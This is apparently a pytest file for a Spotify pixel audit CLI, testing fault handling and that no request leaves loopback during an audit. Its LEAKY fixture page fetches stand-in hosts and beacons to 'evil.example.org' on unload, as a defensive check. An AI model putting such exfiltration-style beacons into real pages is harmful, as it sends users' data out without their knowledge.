"""The auditor when Spotify is down (``spdt-harness audit --fault``), and an unload beacon
during an audit: the real CLI in a subprocess, its own report and exit code."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.audit_helpers import codes, read_json
from tests.cli import spdt
from tests.pages import PageServer
from tests.snippets import BASE_CODE

pytestmark = pytest.mark.browser


def audit_with_faults(
    faults: str, *args: str, env: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    fault_args = [a for f in faults.split(",") if f for a in ("--fault", f)]
    return spdt("audit", *fault_args, *args, env=env, timeout=300)


PURCHASE_PAGE = (
    f"<!doctype html><html><head>{BASE_CODE}</head><body><h1>thanks</h1>"
    "<script>spdt('purchase', {value: 10, currency: 'USD', order_id: 'o-1'});</script>"
    "</body></html>"
)
COMMON = ["--offline", "--script", "emulated", "--quiet", "0.5", "--no-screenshots"]


@pytest.mark.parametrize("fault", ["pixels.spotify.com:5xx:503", "pixels.spotify.com:reset"])
def test_audit_reports_event_not_delivered_when_ingest_is_down(
    page_server: PageServer, cli_env: dict[str, str], tmp_path: Path, fault: str
) -> None:
    url = page_server.serve(PURCHASE_PAGE)
    out = tmp_path / "down.json"
    done = audit_with_faults(
        fault, url, *COMMON, "--format", "json", "--output", str(out), env=cli_env
    )
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode == 1, done.stderr
    (page,) = read_json(out)["pages"]
    assert page["problem"] is None
    assert "EVENT_NOT_DELIVERED" in codes(page)
    assert "BASE_CODE_BROKEN" not in codes(page)  # the pixel did not throw into the page


def test_audit_of_the_same_page_is_clean_without_faults(
    page_server: PageServer, cli_env: dict[str, str], tmp_path: Path
) -> None:
    url = page_server.serve(PURCHASE_PAGE)
    out = tmp_path / "up.json"
    done = audit_with_faults(
        "", url, *COMMON, "--format", "json", "--output", str(out), env=cli_env
    )
    assert "Traceback" not in done.stderr, done.stderr
    (page,) = read_json(out)["pages"]
    assert "EVENT_NOT_DELIVERED" not in codes(page)


def test_audit_with_script_host_down_reports_script_not_loaded(
    page_server: PageServer, cli_env: dict[str, str], tmp_path: Path
) -> None:
    url = page_server.serve(PURCHASE_PAGE)
    out = tmp_path / "script.json"
    done = audit_with_faults(
        "pixel.byspotify.com:5xx:502",
        url,
        *COMMON,
        "--format",
        "json",
        "--output",
        str(out),
        env=cli_env,
    )
    assert done.returncode == 1, done.stderr
    (page,) = read_json(out)["pages"]
    assert "SCRIPT_NOT_LOADED" in codes(page)


LEAKY = (
    f"<!doctype html><html><head>{BASE_CODE}</head><body><h1>leaky</h1><script>"
    "fetch('https://example.com/leak').catch(() => 0);"
    "fetch('http://93.184.216.34/leak').catch(() => 0);"
    "navigator.sendBeacon('https://beacon.example.org/b', 'x');"
    "addEventListener('pagehide', () => {"
    "  navigator.sendBeacon('https://evil.example.org/unload', 'x');"
    # Chromium drops the context's User-Agent on unload beacons; the mock files this one under
    # the audit's session by the device id (docs/mock.md, Sessions).
    "  const uid = (document.cookie.match(/__spdt=([0-9a-f]{32})/) || [])[1];"
    "  navigator.sendBeacon('https://pixels.spotify.com/v1/ingest', JSON.stringify("
    "    {batch: [{pid: 'k', events: [{action: 'unload_probe', uid, body: {}}]}]}));"
    "});</script></body></html>"
)


def test_during_an_audit_nothing_leaves_loopback_and_the_unload_beacon_reaches_the_mock(
    page_server: PageServer, cli_env: dict[str, str], tmp_path: Path
) -> None:
    first = page_server.serve(LEAKY)
    second = page_server.serve(
        f"<!doctype html><html><head>{BASE_CODE}</head><body>2</body></html>"
    )
    journey = tmp_path / "leave.yaml"
    journey.write_text(
        f"steps:\n  - land: {first}\n  - goto: {second}\n"
        "  - expect_event: {name: unload_probe, timeout: 10}\n",
        "utf-8",
    )
    out = tmp_path / "leak.json"
    done = audit_with_faults(
        "",
        first,
        "--journey",
        str(journey),
        *COMMON,
        "--format",
        "json",
        "--output",
        str(out),
        env=cli_env,
    )
    assert "Traceback" not in done.stderr, done.stderr
    pages = read_json(out)["pages"]
    journey_page = next(p for p in pages if p["journey"] == "leave.yaml")
    assert journey_page["problem"] is None, journey_page["problem"]
    # The beacon sent while the page unloaded reached the audit's own mock ...
    assert "EVENT_NOT_FIRED" not in codes(journey_page), journey_page["findings"]
    # ... and every request to a name outside the mock failed at the resolver, not at a socket.
    failures = [
        e["summary"]
        for p in pages
        for e in p["timeline"]
        if e["stage"] == "error" and "net::" in e["summary"]
    ]
    assert failures
    assert all("net::ERR_NAME_NOT_RESOLVED" in f for f in failures), failures
